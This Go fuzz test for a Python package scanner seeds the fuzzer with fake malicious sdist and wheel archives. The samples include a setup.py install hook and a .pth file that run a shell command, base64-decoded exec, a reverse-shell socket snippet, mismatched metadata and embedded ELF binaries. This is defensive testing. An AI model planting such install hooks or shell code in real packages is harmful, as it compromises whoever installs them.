package pkgscan

import (
	"bytes"
	"context"
	"os"
	"testing"

	"github.com/aigis-sec/aigis/internal/safeio"
)

// FuzzScanArchive feeds arbitrary bytes to Scan as a wheel and as an sdist.
// Invariants: no panic, bounded work (small limits), findings carry a rule
// id and a path.
func FuzzScanArchive(f *testing.F) {
	dir := f.TempDir()
	seed := func(p string) {
		b, err := os.ReadFile(p)
		if err != nil {
			f.Fatal(err)
		}
		f.Add(b, true)
		f.Add(b, false)
	}
	seed(sdist(f, dir, "evil-1.0.tar.gz", []file{
		{"setup.py", "import os\nfrom setuptools import setup\nfrom setuptools.command.install import install\nclass I(install):\n    def run(self):\n        os.system('id')\nsetup(name='evil', cmdclass={'install': I})\n"},
		{"PKG-INFO", "Name: evil\nVersion: 1.0\n\n"},
		{"evil/__init__.py", "import base64\nexec(base64.b64decode('aW1wb3J0IG9z'))\n"},
		{"evil/bin/x", elf(2)},
	}))
	seed(wheel(f, dir, "evil-1.0-py3-none-any.whl", []file{
		{"evil/__init__.py", "import socket,os\ns=socket.socket()\ns.connect(('h',1))\nos.dup2(s.fileno(),0)\n"},
		{"evil.pth", "import os;os.system('id')\n"},
		{"evil-1.0.dist-info/METADATA", "Name: other\nVersion: 1.0\nHome-page: https://a.example\nProject-URL: Source, https://b.example/x\n\n"},
		{"evil/_x.so", elf(3)},
	}))
	f.Add([]byte("PK\x05\x06"+string(make([]byte, 18))), true)
	f.Add([]byte{0x1f, 0x8b, 8, 0, 0, 0, 0, 0, 0, 0xff}, false)
	lim := safeio.Default()
	lim.MaxEntries = 200
	lim.MaxMemberBytes = 1 << 20
	lim.MaxTotalBytes = 4 << 20
	f.Fuzz(func(t *testing.T, data []byte, isWheel bool) {
		name := "p-1.0.tar.gz"
		if isWheel {
			name = "p-1.0-cp312-cp312-manylinux_2_17_x86_64.whl"
		}
		s := &scanner{ctx: context.Background(), lim: lim, base: name}
		_ = s.file(name, bytes.NewReader(data), int64(len(data)))
		s.finish()
		fs := s.out
		if len(fs) > maxFindings+1 {
			t.Fatalf("%d findings", len(fs))
		}
		for _, x := range fs {
			if x.RuleID == "" || x.Path == "" {
				t.Fatalf("finding without rule or path: %+v", x)
			}
		}
	})
}
